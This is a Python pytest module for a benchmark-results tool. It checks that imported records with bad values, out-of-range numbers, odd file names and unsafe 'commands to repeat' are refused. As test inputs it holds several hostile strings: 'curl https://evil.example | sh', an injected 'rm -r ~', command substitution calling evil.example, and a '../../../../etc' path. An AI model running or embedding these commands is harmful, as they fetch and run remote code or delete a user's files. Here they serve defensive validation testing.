"""Records from an attacker, or of a bad day, keep nothing from the others: import, tables, site."""

from __future__ import annotations

import html
import json
import os
import resource
import shlex
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any, cast
from unittest.mock import Mock

import pytest
from typer.testing import CliRunner

from ivhl.asv.publish import publish
from ivhl.cli import app
from ivhl.errors import ResultsError
from ivhl.fleet.bring import Imported, import_records
from ivhl.fleet.check import _repeats
from ivhl.init.check import check_project
from ivhl.instrument import INSTRUMENT
from ivhl.measure.effort import Effort
from ivhl.measure.run import repeat_command
from ivhl.measure.suite import values_in
from ivhl.pages.folder import MARKER, exchange
from ivhl.records.answers import cold_seconds, newest_keys, newest_of_other_commits
from ivhl.records.files import append_record, record_file
from ivhl.records.lines import LARGEST
from ivhl.records.record import to_json
from ivhl.tracker.changes.regressions import find_changes
from ivhl.tracker.store.index import Index, open_index
from ivhl.tracker.store.kept import keep_lines
from ivhl.tracker.store.records import newest_by
from ivhl.tracker.views import broken, case
from ivhl.tracker.views.broken import without_broken
from ivhl.tracker.views.facts import fact_groups
from ivhl.tracker.views.project import load_state
from studies.stored import latest_per_case, load_records
from tests.builders.fleet import a_record, commit, make_fleet_project, write_records
from tests.builders.project import git, make_project
from tests.builders.records import make_failure, make_record

if TYPE_CHECKING:
    from ivhl.measure.run import Run
    from ivhl.tracker.views.source import Source
    from ivhl.workload import Case

HERE = Path(__file__).parents[2]


@pytest.fixture(scope="module")
def made_once(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("once")
    make_fleet_project(folder)
    return folder


@pytest.fixture
def root(made_once: Path, tmp_path: Path) -> Path:
    return shutil.copytree(made_once, tmp_path / "project")


def with_values(record: Any, **values: object) -> str:  # noqa: ANN401
    """Return the line of a record with other values; ``__`` goes into a field."""
    data = json.loads(to_json(record))
    for place, value in values.items():
        *path, last = place.split("__")
        inner = data
        for name in path:
            inner = inner[int(name) if name.isdigit() else name]
        inner[int(last) if last.isdigit() else last] = value
    return json.dumps(data)


def take(root: Path, *lines: str) -> Imported:
    path = root.parent / "offered.jsonl"
    path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
    return import_records(root, [path], root / "results")


# A field, a value that arithmetic or a file system cannot bear, and a part of the rule.
BEYOND: list[tuple[dict[str, object], str]] = [
    ({"memory__eager_peak": 10**400}, "memory.eager_peak: must be from 0 to 1e+18"),
    ({"memory__eager_peak": -1}, "memory.eager_peak: must be from 0"),
    ({"aa__low": 1e-300, "aa__high": 1e308}, "aa.low: must be 0, or from 1e-75"),
    ({"aa__low": 9.0}, "aa: must be positive and inside its interval"),
    ({"aa__confidence": 0.1}, "aa.confidence: must be from 0.5"),
    ({"speedup__n": 10**400}, "speedup.n: must be from 0"),
    ({"eager__samples_s__0": 5e-324}, "eager.samples_s: must hold positive seconds"),
    ({"eager_again__samples_s": []}, "eager_again.samples_s: must hold positive seconds"),
    ({"compile__warm_s": 1e300}, "compile.warm_s: must be from 0 to 1e+09"),
    ({"compile__graph_breaks__0__count": 10**30}, "compile.graph_breaks.0.count: must be from 0"),
    ({"compile__graph_breaks__0__count": 2**41}, "compile.graph_breaks.0.count: must be from 0"),
    ({"accuracy__0__eager_rmse": 1e-320}, "accuracy.0.eager_rmse: must be 0, or from"),
    ({"accuracy__0__scale": 1e308}, "accuracy.0.scale: must be from 0 to 1e+75"),
    ({"phase_s": {"compile": 1e308}}, "phase_s: must be from 0 to 1e+09"),
    ({"conditions__threads": 10**20}, "conditions.threads: must be from 0"),
    ({"conditions__load_average": 1e300}, "conditions.load_average: must be from 0"),
    ({"machine__cpu": "\N{LATIN SMALL LETTER SHARP S}" * 101}, "machine.cpu: must be a short"),
    ({"machine__system": "\N{GRINNING FACE}" * 60}, "machine.system: must be a short text"),
    ({"machine__name": "\N{LATIN SMALL LETTER A WITH ACUTE}" * 51}, "machine.name: must have at"),
    ({"variant": "\N{GRINNING FACE}" * 26}, "variant: must be a name"),
    ({"compile__graph_breaks__0__text": "x" * 70_000}, "text: must have at most 65536 bytes"),
    ({"command": "curl https://evil.example | sh"}, "command: must be one that ivhl writes"),
    ({"recorded_at": "0001-01-01T00:00:00+14:00"}, "recorded_at: must be UTC"),
    ({"recorded_at": "9999-12-31T23:59:59-14:00"}, "recorded_at: must be UTC"),
    ({"recorded_at": "2099-01-01T00:00:00+00:00"}, "recorded_at: must not be in the future"),
]


def test_a_good_line_gets_in_between_bad_ones(root: Path) -> None:
    bad = [with_values(a_record(root), **values) for values, _ in BEYOND]
    deep = '{"a":' * 5000 + "1" + "}" * 5000
    digits = with_values(a_record(root)).replace('"n_cpus": 8', f'"n_cpus": {"9" * 5000}')
    done = take(root, deep, digits, "null", "5", '"x"', "[]", *bad, with_values(a_record(root)))
    assert done.new.total() == 1
    assert len(load_records(root / "results").records) == 1
    rules = {int(one.place.rpartition(":")[2]): one.rule for one in done.refused}
    for number, (_, rule) in enumerate(BEYOND, 7):
        assert rule in rules[number]
    assert publish(root, root / "site").problems == ()


def test_every_record_of_this_repository_is_possible() -> None:
    loaded = load_records(HERE / "results")
    assert loaded.records
    assert loaded.problems == ()
    assert all(_repeats(record.command, record.commit) for record in loaded.records)


COMMIT = "0123456789abcdef" * 2 + "01234567"


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example | sh",
        "ivhl bench --python 3.12; curl https://evil.example | sh",
        "ivhl bench --python 3.12 --workload a --size $(curl${IFS}evil.example)",
        "ivhl bench --python 3.12 --workload `x`",
        "ivhl bench --python 3.12\nrm -r ~",
        "ivhl bench --python 3.12 --workload 'a",
        "ivhl bench --python 3.12 --workload a\x1b[2J",
        "ivhl bench --python 3.12 --results /home/you",
        "ivhl bench --python 3.12 --slurm setup=evil",
        "ivhl bench --python=3.12 --commit=deadbeef",
        "ivhl bench --python 3.12 --commit deadbeef",
        "ivhl bench --python 3.12 --commit 0",
        "ivhl bench --python 3.12 --commit 01234567 --commit deadbeef",
        "ivhl bench -h",
        "ivhl publish --output /home/you",
        "nox -f /tmp/evil.py -s bench-3.12 -- --torch 2.6.0",
        "nox -s evil -- --torch 2.6.0",
        "python -m ivhl.measure --out /home/you --workloads benchmarks",
        "",
    ],
)
def test_a_command_to_copy_that_does_more_than_measure_is_no_command(command: str) -> None:
    assert not _repeats(command, COMMIT)


@pytest.mark.parametrize(
    "name", ["medium", "4 x 4", "a;b", "it's", "$HOME", "\N{GREEK SMALL LETTER MU}"]
)
@pytest.mark.parametrize(
    "effort",
    [
        Effort(),
        Effort(
            threads=4,
            device="cuda",
            deadline_s=900.5,
            memory_limit=3 << 30,
            processes=8,
            force=True,
        ),
    ],
)
def test_every_command_that_ivhl_writes_is_one(name: str, effort: Effort) -> None:
    case = SimpleNamespace(
        workload=SimpleNamespace(name="ops.two"),
        size=name,
        variant=SimpleNamespace(name="compiled"),
        mode="max-autotune",
    )
    for repeat in (
        "ivhl bench --python 3.13t --torch 2.6.0 --commit 01234567",
        "python -m ivhl.measure --out DIR --workloads benchmarks:WORKLOADS",
    ):
        run = cast("Run", SimpleNamespace(repeat=repeat, effort=effort))
        command = repeat_command(run, cast("Case", case))
        assert _repeats(command, COMMIT)
        assert shlex.split(command)[shlex.split(command).index("--size") + 1] == name
        assert _repeats(f"{command} --docker", COMMIT)  # before 2026-12
        assert _repeats(f"{command} --executor docker", COMMIT)
        assert not _repeats(f"{command} --executor slurm", COMMIT)


@pytest.mark.parametrize("name", ["x.json", "x.jsonl", "benchmarks.json"])
def test_a_machine_with_the_name_of_a_file_is_refused(root: Path, name: str) -> None:
    done = take(root, with_values(a_record(root), machine__name=name), with_values(a_record(root)))
    assert done.new.total() == 1
    assert "not end in .json" in done.refused[0].rule


def test_a_folder_with_the_name_of_a_file_of_asv_is_no_file_of_asv(root: Path) -> None:
    folder = root / "results" / "x.json"
    folder.mkdir(parents=True)
    take(root, with_values(a_record(root)))
    assert folder.is_dir()


def test_packages_that_contradict_the_lock_are_refused(root: Path) -> None:
    lock = root / "envs" / "locks" / "py3.12-torch2.6.0.txt"
    lock.write_text(lock.read_text() + "numpy==2.1.0\n")
    git(root, "commit", "-q", "-a", "-m", "numpy")
    packages = (
        ["torch==2.6.0", "numpy==2.1.0", "demo==1"],
        ["torch==2.6.0", "numpy==1.0"],
        ["torch==2.6.0"],
    )
    done = take(root, *(with_values(a_record(root), conditions__packages=p) for p in packages))
    assert done.new.total() == 1
    rules = [refused.rule for refused in done.refused]
    assert "has numpy==2.1.0 (got 'numpy==1.0')" in rules[0]
    assert "has numpy==2.1.0 (got none)" in rules[1]


def test_a_record_of_2099_hides_no_later_one(root: Path) -> None:
    early, late = a_record(root, minute=1, speedup=1.5), a_record(root, minute=2, speedup=3.0)
    future = replace(early, recorded_at="2099-01-01T00:00:00+00:00", speedup=late.aa)
    assert newest_by([future, early, late], lambda r: r.workload) == {late.workload: late}
    (shown,) = latest_per_case([late, future])
    assert shown == late
    # In another file of the same machine, written by hand or by an ivhl that did not check it.
    write_records(root / "results", late)
    path = record_file(root / "results", "other", future.commit, future.cell.id)
    append_record(path, future)
    assert load_records(root / "results").records == (late,)


def test_an_import_sorts_a_record_of_2099_before_all_others(root: Path) -> None:
    early = a_record(root, minute=1)
    write_records(root / "results", replace(early, recorded_at="2099-01-01T00:00:00+00:00"))
    take(root, with_values(a_record(root, minute=2, speedup=3.0)))
    (shown,) = load_records(root / "results").records
    assert shown.speedup
    assert shown.speedup.value == 3.0


def test_lines_in_the_results_that_no_measurement_gives_are_named(root: Path) -> None:
    good = a_record(root)
    path = record_file(root / "results", "box", good.commit, good.cell.id)
    append_record(path, good)
    with path.open("a") as file:
        file.writelines(with_values(good, **values) + "\n" for values, _ in BEYOND[:12])
    loaded = load_records(root / "results")
    assert loaded.records == (good,)
    assert [problem.line for problem in loaded.problems] == list(range(2, 14))


def test_the_index_leaves_out_what_no_measurement_gives(root: Path) -> None:
    good = a_record(root)
    path = record_file(root / "results", "box", good.commit, good.cell.id)
    append_record(path, good)
    with path.open("a") as file:
        file.writelines(with_values(good, **values) + "\n" for values, _ in BEYOND[:12])
    index = Index(root / "results", ":memory:")
    index.update()
    assert [problem.line for problem in index.problems] == list(range(2, 14))
    assert len(index.newest()) == 1
    index.close()


@pytest.mark.parametrize(
    ("values", "rule"),
    [
        ({"commit": "HEAD"}, "commit: must be 40 or 64 hex digits (got 'HEAD')"),
        ({"commit": f"{'a' * 40}\n{'b' * 40}"}, "commit: must be 40 or 64 hex digits"),
        ({"commit": "../../../../etc"}, "commit: must be 40 or 64 hex digits"),
        ({"cell__id": "py3.13-torch2.6.0"}, "cell.id: must follow from Python and PyTorch"),
        ({"cell__python": "3.13"}, "cell.id: must follow from Python and PyTorch"),
        (
            {"cell__python": "9" * 300, "cell__id": f"py{'9' * 300}-torch2.6.0"},
            "cell.id: must have at most 108 bytes",
        ),
    ],
)
def test_a_record_of_no_commit_or_of_two_cells_is_named(
    root: Path, values: dict[str, object], rule: str
) -> None:
    good = a_record(root)
    write_records(root / "results", good)
    path = record_file(root / "results", "box", good.commit, good.cell.id)
    with path.open("a") as file:
        file.write(with_values(good, **values) + "\n")
    loaded = load_records(root / "results")
    assert loaded.records == (good,)
    (problem,) = loaded.problems
    assert problem.rule.startswith(rule)
    index = open_index(root / "results")
    assert list(map(str, index.problems)) == [str(problem)]
    assert len(index.entries) == 1


def test_a_pipe_among_the_records_is_named_and_not_read(root: Path) -> None:
    write_records(root / "results", a_record(root))
    os.mkfifo(root / "results" / "box" / "records" / "00000000-x.jsonl")
    os.mkfifo(root / "results" / "box" / "machine.json")
    loaded = load_records(root / "results")
    assert len(loaded.records) == 1
    assert [problem.rule for problem in loaded.problems] == ["must be a plain file"]
    assert len(publish(root, root / "site").problems) == 2


def test_a_name_that_is_no_text_hides_no_other_file(root: Path) -> None:
    write_records(root / "results", a_record(root))
    records = root / "results" / "box" / "records"
    for folder in (records, root / "results" / os.fsdecode(b"\xff") / "records"):
        folder.mkdir(parents=True, exist_ok=True)
        (folder / os.fsdecode(b"\xff.jsonl")).write_text(to_json(a_record(root, minute=1)))
    loaded, index = load_records(root / "results"), open_index(root / "results")
    assert len(loaded.records) == len(index.entries) == 1
    assert list(map(str, loaded.problems)) == list(map(str, index.problems))
    assert len(loaded.problems) == 2
    assert str(loaded.problems[0]) == (
        f"{root / 'results'}: must have names in UTF-8 (got 'box/records/\\udcff.jsonl')"
    )
    assert len(publish(root, root / "site", asv=False).problems) == 2


def test_a_file_of_any_size_is_not_read_into_memory(root: Path) -> None:
    write_records(root / "results", a_record(root))
    with (root / "results" / "box" / "records" / "large.jsonl").open("wb") as file:
        file.truncate(LARGEST + 1)  # of holes: takes no room
    index = open_index(root / "results")
    assert len(index.entries) == 1
    (problem,) = index.problems
    assert problem.rule == f"must have at most {LARGEST} bytes (got {LARGEST + 1})"


def test_blank_lines_take_no_memory(tmp_path: Path) -> None:
    source = tmp_path / "blank.jsonl"
    source.write_bytes(b"\n" * (8 << 20))
    script = (
        "import resource, sys; from pathlib import Path;"
        "from ivhl.fleet.sources import read_sources;"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss;"
        "assert list(read_sources([Path(sys.argv[1])])) == [];"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(source)],
        capture_output=True,
        text=True,
        check=True,
        cwd=HERE,
    )
    assert int(done.stdout) < 64 << 10  # KiB


def test_a_file_of_garbage_is_refused_with_a_bounded_list(root: Path) -> None:
    done = take(root, *["x"] * 3000, with_values(a_record(root)))
    assert done.new.total() == 1
    assert len(done.refused) == 1001
    assert done.refused[-1].place == "2000 more lines"


def test_a_record_of_which_no_page_can_be_made_is_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_project(tmp_path)
    state = load_state(tmp_path, tmp_path / "results")
    bad = state.records[3]
    facts = fact_groups

    def fails(record: Any, *more: Any) -> Any:  # noqa: ANN401
        if record == bad:
            raise OverflowError("int too large to convert to float")
        return facts(record, *more)

    monkeypatch.setattr(case, "fact_groups", fails)
    left = without_broken(state)
    assert left.records == tuple(record for record in state.records if record != bad)
    assert "cannot be shown: OverflowError" in left.problems[-1]


@pytest.mark.parametrize(
    "name", ["environment_views", "regressions_view", "run_view", "side", "choices"]
)
def test_a_record_that_breaks_any_kind_of_page_is_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    make_project(tmp_path)
    state = load_state(tmp_path, tmp_path / "results")
    bad = state.records[3]
    good = getattr(broken, name)

    def fails(source: Source, *more: Any) -> Any:  # noqa: ANN401
        if bad in source.state.records:
            raise OverflowError("int too large to convert to float")
        return good(source, *more)

    monkeypatch.setattr(broken, name, fails)
    left = without_broken(state)
    assert left.records == tuple(record for record in state.records if record != bad)
    assert "cannot be shown: OverflowError" in left.problems[-1]


def test_records_whose_names_were_one_file_each_have_their_pages(root: Path) -> None:
    good = a_record(root)
    near = good.commit[:12] + "0" * 28
    sizes = (
        "\N{LATIN SMALL LETTER E WITH ACUTE}a",
        "\u0e9a",
        "B",
        "b",
        "x" * 99,
        "X" * 99,
        "~e9a",
        "..",
    )
    records = [replace(good, size=size) for size in sizes]
    records.append(replace(good, size="other", same_as=near))
    write_records(root / "results", good, *records)
    published = publish(root, root / "site", asv=False)
    assert published.problems == published.left_out == ()
    cases = [path.name.casefold() for path in (root / "site" / "case").rglob("*.html")]
    assert len({*cases}) == len(cases) > len(records)
    runs = [path.stem for path in (root / "site" / "run").rglob("*.html")]
    assert sorted(runs) == sorted([good.commit, near])


def test_a_page_that_breaks_without_a_record_being_the_reason_ends_no_publish(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_records(root / "results", a_record(root))
    broken_feed = Mock(side_effect=OverflowError("too large"))
    monkeypatch.setattr("ivhl.pages.build.feed", broken_feed)
    published = publish(root, root / "site")
    (problem,) = published.left_out
    assert problem.startswith("feed.xml: cannot be made and is left out: OverflowError")
    assert published.problems == (problem,)
    site = root / "site"
    assert problem in html.unescape((site / "index.html").read_text())
    assert (site / "asv" / "index.html").is_file()
    assert not (site / "feed.xml").exists()
    monkeypatch.chdir(root)
    done = CliRunner().invoke(app, ["publish"])
    assert isinstance(done.exception, ResultsError)
    assert "1 file of the site could not be made" in str(done.exception)
    assert str(site / "index.html") in done.output.replace("\n", "")


def test_a_record_that_stands_for_a_commit_of_elsewhere_is_refused(root: Path) -> None:
    done = take(root, with_values(a_record(root), same_as="ab" * 20), with_values(a_record(root)))
    assert done.new.total() == 1
    (refused,) = done.refused
    assert refused.rule == f"same_as: must be in this repository (got {'ab' * 20})"


def test_a_folder_without_our_mark_is_never_deleted(root: Path) -> None:
    write_records(root / "results", a_record(root))
    site = root / "site"
    site.mkdir()
    (site / "index.json").write_text("{}")
    (site / "thesis.tex").touch()
    with pytest.raises(ResultsError, match="not a site made by asv"):
        publish(root, site)
    assert (site / "thesis.tex").exists()
    (site / MARKER).symlink_to("index.json")
    with pytest.raises(ResultsError, match="not a site made by asv"):
        publish(root, site)
    shutil.rmtree(site)
    site.mkdir()
    publish(root, site)
    publish(root, site)
    assert (site / MARKER).is_file()


def test_a_site_is_replaced_without_a_moment_without_one(tmp_path: Path) -> None:
    new, old = tmp_path / "new", tmp_path / "site"
    new.mkdir()
    (new / "page").write_text("new")
    old.mkdir()
    (old / "page").write_text("old")
    seen = []
    rename = Path.rename

    def watched(self: Path, target: Path) -> Path:
        seen.append((old / "page").read_text() if old.exists() else "nothing")
        return rename(self, target)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Path, "rename", watched)
        exchange(new, old)
    assert (old / "page").read_text() == "new"
    assert (new / "page").read_text() == "old"
    assert "nothing" not in seen


def test_a_site_is_replaced_where_the_system_cannot_exchange(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ivhl.pages.folder._exchanged", lambda *_: False)
    new, old = tmp_path / "private" / "new", tmp_path / "site"
    for folder in (new, old):
        folder.mkdir(parents=True)
        (folder / "page").write_text(folder.name)
    exchange(new, old)
    assert (old / "page").read_text() == "new"


def test_what_a_killed_publish_left_is_removed_and_a_running_one_kept(root: Path) -> None:
    import fcntl  # noqa: PLC0415  (only here)

    write_records(root / "results", a_record(root))
    left, running = root / ".site-new-left", root / ".site-new-runs"
    for folder in (left, running):
        (folder / "site").mkdir(parents=True)
    lock = os.open(running, os.O_RDONLY)
    fcntl.flock(lock, fcntl.LOCK_EX)
    publish(root, root / "site")
    os.close(lock)
    assert not left.exists()
    assert running.exists()


def test_a_loop_of_links_as_site_is_an_error_with_a_sentence(root: Path) -> None:
    (root / "site").symlink_to("site")
    with pytest.raises(ResultsError, match="cannot be the folder of the site"):
        publish(root, root / "site")


def test_half_a_character_in_a_message_loses_no_record(tmp_path: Path) -> None:
    # As in the name of a file that is not UTF-8.
    message = 'no "caf\udce9" \\udce9 \U0001f600 here'
    write_records(tmp_path, make_failure("inputs", message))
    loaded = load_records(tmp_path)
    assert loaded.problems == ()
    (failure,) = (record.failure for record in loaded.records)
    assert failure is not None
    assert failure.message == 'no "caf\\udce9" \\udce9 \U0001f600 here'


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("workload", []),
        ("commit", {}),
        ("benchmark", []),
        ("recorded_at", 5),
        ("compile", [1]),
        ("speedup", {"value": 0}),
        ("conditions", {"device": ""}),
    ],
)
def test_what_a_cell_reads_of_results_survives_a_line_of_any_types(
    tmp_path: Path, field: str, value: object
) -> None:
    good = make_record()
    path = record_file(tmp_path, "bench", good.commit, good.cell.id)
    data = json.loads(to_json(good))
    lines = [{**data, field: value}, {**data, field: value}, {**data, "size": "large"}]
    path.parent.mkdir(parents=True)
    path.write_text("[" * 100_000 + "\n" + "\n".join(map(json.dumps, lines)), encoding="utf-8")
    made = (good.commit, good.cell.id, good.cell.lock_sha256, 1, str(INSTRUMENT), None, ())
    assert [case.size for case, _ in newest_keys(path)][-1:] == ["large"]
    newest_of_other_commits(path.parent, made)
    assert cold_seconds(tmp_path, good.cell.id)
    assert values_in(path, good.cell, "cpu")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[[change]]\n", "change.0.reason: must be there"),
        ('[[change]]\nreason = " "\ntorch = "<2"', "change.0.reason: "),
        (
            '[[change]]\nreason = "r"\nworkload = "*"',
            "change.0: must have torch, python or commit",
        ),
        ('[[change]]\nreason = "r"\ncommit = "HEAD"', "change.0.commit: "),
        ('[[change]]\nreason = "r"\ntorch = "2.7"', "change.0.torch: must be a range"),
        (f'[[change]]\nreason = "r"\nworkload = "{"*a" * 10_000}"', "change.0.workload: "),
        ('[[change]]\nreason = "r"\nplace = "2.7.1"', "change.0.place: is no known key"),
    ],
)
def test_a_note_that_is_none_is_named_and_the_site_does_without(
    root: Path, text: str, said: str
) -> None:
    (root / "envs" / "expectations.toml").write_text(text, encoding="utf-8")
    assert any(said in problem for problem in check_project(root).problems)
    assert any(said in problem for problem in publish(root, root / "site", asv=False).problems)


def test_words_that_cannot_be_read_are_named_and_the_site_does_without(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = ("confirmations.jsonl", "provenance.jsonl")
    (root / "results").mkdir(exist_ok=True)
    for name in names:
        (root / "results" / name).touch()
    read = Path.read_bytes

    def forbidden(self: Path) -> bytes:  # root may read everything
        if self.name in names:
            raise PermissionError(13, "Permission denied", str(self))
        return read(self)

    monkeypatch.setattr(Path, "read_bytes", forbidden)
    problems = publish(root, root / "site", asv=False).problems
    assert problems == tuple(
        f"results/{name}: cannot be read: Permission denied" for name in names
    )


def test_a_line_that_a_full_disk_cut_off_is_taken_back(tmp_path: Path) -> None:
    path = tmp_path / "lines.jsonl"
    keep_lines(path, [{"text": "good"}])
    before = path.read_bytes()
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (len(before) + 100, hard))
    try:
        with pytest.raises(ResultsError, match="cannot be written"):
            keep_lines(path, [{"text": "x" * 500}])
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert path.read_bytes() == before


def test_runs_that_repeat_to_the_last_digit_stop_no_view(root: Path) -> None:
    # Invented, or of a clock that hardly moves: they leave no room for any difference.
    first, second = git(root, "rev-parse", "HEAD"), commit(root, "more")
    same = [
        a_record(root, minute=minute, variant=variant, commit=first)
        for minute in range(12)
        for variant in "ab"
    ]
    other = a_record(root, minute=30, commit=second, speedup=1.5)
    write_records(root / "results", *same, other)
    state = load_state(root, root / "results")
    assert len(state.records) == 3
    assert state.history is not None
    find_changes(state.history, state.spreads, state.commit_order)
    done = publish(root, root / "site", asv=False)
    assert done.problems == ()
